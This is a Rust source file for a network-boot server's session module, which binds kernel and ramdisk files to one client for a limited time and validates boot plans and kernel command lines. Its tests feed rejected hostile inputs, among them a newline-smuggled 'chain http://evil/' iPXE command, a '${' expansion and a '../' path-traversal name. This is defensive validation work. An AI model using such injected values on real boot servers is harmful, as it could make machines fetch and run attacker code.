//! Boot sessions: the files of a redeemed plan, under unguessable names, for one client and a limited time.

use std::collections::{HashMap, HashSet, VecDeque};
use std::net::{IpAddr, Ipv4Addr};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use secrecy::ExposeSecret as _;

use crate::config::{Settings, is_file_name};
use crate::directory::{BootFile, BootPlan, Stage};
use crate::mac::Mac;
use crate::random::{RandomError, random_name};

/// Time for a machine to fetch its kernel and ramdisk.
const SESSION_LIFETIME: Duration = Duration::from_secs(1800);
/// Maximum number of sessions; a new one replaces the oldest.
const CAPACITY: usize = 16_384;

#[derive(Debug)]
pub(crate) struct Session {
    pub(crate) id: String,
    pub(crate) mac: Mac,
    pub(crate) plan: BootPlan,
    remote: IpAddr,
    until: Instant,
}

/// Why a plan or a session for it was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub(crate) enum PlanError {
    #[error("the boot plan's file name {0:?} is not allowed or not unique")]
    Name(String),
    #[error("the boot plan has {0} ramdisks; the limit is 8")]
    Initrds(usize),
    #[error(
        "the boot plan's kernel command line is longer than 3000 bytes, or contains control characters, non-ASCII \
         characters, a quote or `${{`"
    )]
    Cmdline,
    #[error("no session name: the system's random source gave no bytes")]
    Random,
}

impl From<RandomError> for PlanError {
    fn from(_: RandomError) -> Self {
        Self::Random
    }
}

/// Why a file of a session is not served.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum FileError {
    /// The session never existed or has ended, or it has no such file.
    NotFound,
    /// The session belongs to another client.
    Foreign(Mac),
}

#[derive(Debug, Default)]
pub(crate) struct Sessions(Mutex<Inner>);

#[derive(Debug, Default)]
struct Inner {
    by_id: HashMap<String, Arc<Session>>,
    order: VecDeque<String>,
}

impl Sessions {
    /// Opens a session for a plan that `remote` has just redeemed.
    pub(crate) fn open(
        &self,
        mac: Mac,
        plan: BootPlan,
        remote: IpAddr,
        now: Instant,
    ) -> Result<Arc<Session>, PlanError> {
        check(&plan)?;
        let id = random_name()?;
        let session = Arc::new(Session {
            id: id.clone(),
            mac,
            plan,
            remote,
            until: now + SESSION_LIFETIME,
        });
        if let Ok(mut inner) = self.0.lock() {
            while inner.order.len() >= CAPACITY || inner.oldest().is_some_and(|oldest| oldest.until <= now) {
                let Some(oldest) = inner.order.pop_front() else { break };
                inner.by_id.remove(&oldest);
            }
            inner.by_id.insert(id.clone(), session.clone());
            inner.order.push_back(id);
        }
        Ok(session)
    }

    /// Returns a file of a session and the stage that it stands for.
    pub(crate) fn file(
        &self,
        id: &str,
        name: &str,
        remote: IpAddr,
        now: Instant,
    ) -> Result<(Arc<Session>, BootFile, Stage), FileError> {
        let session = self
            .0
            .lock()
            .ok()
            .and_then(|inner| inner.by_id.get(id).cloned())
            .ok_or(FileError::NotFound)?;
        if session.remote != remote {
            return Err(FileError::Foreign(session.mac));
        }
        if session.until <= now {
            return Err(FileError::NotFound);
        }
        let plan = &session.plan;
        let (file, stage) = if plan.kernel.name == name {
            (plan.kernel.clone(), Stage::Kernel)
        } else {
            let initrd = plan
                .initrds
                .iter()
                .find(|file| file.name == name)
                .ok_or(FileError::NotFound)?;
            (initrd.clone(), Stage::Initrd)
        };
        Ok((session, file, stage))
    }
}

impl Inner {
    fn oldest(&self) -> Option<&Session> {
        self.order.front().and_then(|id| self.by_id.get(id)).map(AsRef::as_ref)
    }
}

fn check(plan: &BootPlan) -> Result<(), PlanError> {
    if plan.initrds.len() > 8 {
        return Err(PlanError::Initrds(plan.initrds.len()));
    }
    let mut names = HashSet::new();
    for file in std::iter::once(&plan.kernel).chain(&plan.initrds) {
        if !is_file_name(&file.name) || !names.insert(&file.name) {
            return Err(PlanError::Name(file.name.clone()));
        }
    }
    // The command line becomes part of scripts: iPXE expands `${`; iPXE and grub split words at blanks and interpret
    // quotes.
    let cmdline = plan.cmdline.expose_secret();
    let printable = cmdline
        .bytes()
        .all(|b| (b.is_ascii_graphic() && b != b'\'' && b != b'"' && b != b'\\') || b == b' ');
    if cmdline.len() > 3000 || !printable || cmdline.contains("${") {
        return Err(PlanError::Cmdline);
    }
    Ok(())
}

/// Source of a session client's own address on the command line.
pub(crate) enum ClientAddress {
    /// This server assigned it: `address/prefix`, and the router.
    Known {
        address: Ipv4Addr,
        prefix: u8,
        router: Option<Ipv4Addr>,
    },
    /// Another server assigned it.
    Foreign,
}

impl Session {
    pub(crate) fn client_address(&self, settings: &Settings) -> ClientAddress {
        let IpAddr::V4(address) = self.remote else {
            return ClientAddress::Foreign;
        };
        match settings.subnet_of(address) {
            Some(subnet) => ClientAddress::Known {
                address,
                prefix: subnet.network.prefix_len(),
                router: subnet.router,
            },
            None => ClientAddress::Foreign,
        }
    }

    /// The command line with the values that only this server knows: the MAC address, and the client's address if it
    /// assigned it.
    pub(crate) fn cmdline(&self, settings: &Settings) -> String {
        let mut line = format!("{} rackwright.mac={}", self.plan.cmdline.expose_secret(), self.mac);
        if let ClientAddress::Known {
            address,
            prefix,
            router,
        } = self.client_address(settings)
        {
            line.push_str(&format!(" rackwright.ip={address}/{prefix}"));
            if let Some(router) = router {
                line.push_str(&format!(" rackwright.gw={router}"));
            }
        }
        line
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use secrecy::SecretString;

    use super::*;

    pub(crate) const MAC: Mac = Mac([0x52, 0x54, 0, 0x77, 0, 1]);

    pub(crate) fn plan(cmdline: &str) -> BootPlan {
        BootPlan {
            kernel: BootFile {
                name: "vmlinuz".to_owned(),
                path: "/k".into(),
            },
            initrds: vec![BootFile {
                name: "initrd".to_owned(),
                path: "/i".into(),
            }],
            cmdline: SecretString::from(cmdline.to_owned()),
        }
    }

    #[test]
    fn files_are_for_one_client_and_for_a_while() {
        let sessions = Sessions::default();
        let (now, remote) = (Instant::now(), IpAddr::from([10, 77, 0, 10]));
        let session = sessions.open(MAC, plan("quiet"), remote, now).unwrap();
        assert_eq!(session.id.len(), 32);
        let found = |name, remote, at| {
            sessions
                .file(&session.id, name, remote, at)
                .map(|(_, file, stage)| (file.name, stage))
        };
        assert_eq!(found("vmlinuz", remote, now), Ok(("vmlinuz".to_owned(), Stage::Kernel)));
        assert_eq!(found("initrd", remote, now), Ok(("initrd".to_owned(), Stage::Initrd)));
        assert_eq!(found("shadow", remote, now), Err(FileError::NotFound));
        assert_eq!(
            found("vmlinuz", IpAddr::from([10, 77, 0, 11]), now),
            Err(FileError::Foreign(MAC))
        );
        assert_eq!(
            found("vmlinuz", remote, now + SESSION_LIFETIME),
            Err(FileError::NotFound)
        );
        assert_eq!(
            sessions.file("0", "vmlinuz", remote, now).err(),
            Some(FileError::NotFound)
        );
    }

    #[test]
    fn a_plan_that_could_break_a_script_is_refused() {
        for bad in [
            "a\nchain http://evil/",
            "a ${net0/ip}",
            "it's",
            "a\u{e9}",
            &"x".repeat(3001),
        ] {
            assert_eq!(check(&plan(bad)), Err(PlanError::Cmdline), "{bad}");
        }
        let mut twice = plan("");
        twice.initrds[0].name = "vmlinuz".to_owned();
        assert_eq!(check(&twice), Err(PlanError::Name("vmlinuz".to_owned())));
        let mut malformed = plan("");
        malformed.kernel.name = "../vmlinuz".to_owned();
        assert_eq!(check(&malformed), Err(PlanError::Name("../vmlinuz".to_owned())));
    }
}
